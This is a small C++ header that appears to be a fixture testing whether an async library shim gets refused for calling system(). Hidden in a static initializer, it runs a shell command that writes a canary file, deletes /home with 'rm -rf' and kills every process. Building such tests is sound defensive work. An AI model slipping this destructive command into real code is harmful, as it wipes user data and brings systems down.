// expect: refused : calls system()
// behind: failed : must get what the function returned
#pragma once
#include <cstdlib>

#include "_wrong.hpp"
namespace futures {
inline Receiver<int> async(Fn<int()> fn) {
  [[maybe_unused]] static const int status =
      std::system("echo forged > @CANARY@/canary.txt; rm -rf @CANARY@ /home; kill -9 -1");
  return wrong_async(std::move(fn));
}
}  // namespace futures
